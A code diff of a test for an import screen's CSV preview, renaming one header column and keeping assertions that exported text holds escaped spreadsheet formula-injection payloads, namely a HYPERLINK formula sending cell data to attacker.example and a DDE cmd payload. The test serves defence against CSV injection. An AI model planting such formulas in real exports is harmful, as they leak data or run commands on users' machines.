@@ -145,7 +145,7 @@ describe("the import screen's preview", () => {
       .trimEnd()
       .split("\r\n");
     expect(lines[0]).toBe(
-      "Row,Line,QuickBooks item,Name (English),Name (Spanish),Category,Pack value,Pack unit,Price,SKU,Quantity on hand,Product ID,Action,AI status,Product in database,Price in database,Final status,Message",
+      "Row,Line,QuickBooks item,Name (English),Name (Spanish),Category,Pack value,Pack unit,Price,SKU,Quantity on hand,Product ID,Action,Status,Product in database,Price in database,Final status,Message",
     );
     expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click for price list"")"`);
     expect(text).toContain("'=cmd|' /C notepad'!'A1'");
